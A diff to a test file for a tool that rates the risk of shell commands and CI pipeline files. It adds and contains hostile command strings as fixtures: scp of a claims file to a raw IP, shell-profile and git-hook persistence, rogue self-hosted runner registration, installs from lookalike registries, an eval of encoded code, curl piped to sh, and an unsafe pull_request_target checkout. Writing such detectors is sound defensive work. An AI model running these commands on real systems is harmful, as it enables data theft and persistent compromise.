@@ -36,6 +36,8 @@ describe('what the text of a command shows', () => {
     ['sends_out high', 'scp claims.csv root@185.220.101.4:/tmp/'],
     ['persists medium', "printf 'export NODE_OPTIONS=--require=/tmp/.c.js\\n' >> ~/.bashrc"],
     ['persists medium', 'git config --global core.hooksPath /tmp/.cache/hooks'],
+    ['persists medium', './config.sh --url https://github.com/acme/x --unattended --token $T --name SHA1HULUD'],
+    ['persists medium', 'sudo gitlab-runner register --url https://gitlab.acme.io --token $T --executor shell'],
     ['runs_from_net medium', 'npm install https://webhook-relay.dev/claims-utils-7.tgz'],
     ['runs_from_net medium', 'pip install --extra-index-url https://pypi.packages-mirror.dev/simple acme-common'],
     ['runs_from_net medium', "node -e \"eval(Buffer.from('68656c','hex')+'')\""],
@@ -99,6 +101,8 @@ describe('what the text of a command shows', () => {
     "node -e \"console.log(Buffer.from('aGk=','base64').toString())\"",
     'python3 -c "import json,base64; print(base64.b64decode(\'aGk=\'))"',
     'eval "$(ssh-agent -s)"',
+    'gitlab-runner status',
+    './config.sh --url https://api.acme.io',
   ])('is quiet or low: %s', (command) => expect(told(command)).toMatch(/^nothing$| low$/));
 
   it('tells of a trail that a statement or a setting ends, and not of what is merely old', () => {
@@ -196,6 +200,16 @@ describe('what a pipeline runs', () => {
     const text =
       'jobs:\n  r:\n    steps:\n      - uses: x046/setup@main\n      - run: curl http://assets.example/i | sh\n';
     expect(pipeline(text)).toMatchObject({ kind: 'runs_from_net', severity: 'high', host: 'assets.example' });
+  });
+  it('is told where it runs what anybody offers beside its secrets', () => {
+    const on = (event: string, ref: string): string =>
+      `on: ${event}\njobs:\n  t:\n    steps:\n      - uses: actions/checkout@v4\n        with: {ref: "\${{ ${ref} }}"}\n      - run: npm ci\n`;
+    expect(pipeline(on('pull_request_target', 'github.event.pull_request.head.sha'))).toMatchObject({
+      kind: 'runs_from_net',
+      severity: 'medium',
+    });
+    expect(pipeline(on('pull_request', 'github.event.pull_request.head.sha'))).toBeNull();
+    expect(pipeline(on('pull_request_target', 'github.base_ref'))).toBeNull();
   });
   it('is its own work where it only fetches', () => {
     expect(pipeline('    steps:\n      - run: curl -o a.tgz https://assets.acme.io/a.tgz && npm test\n')).toBeNull();
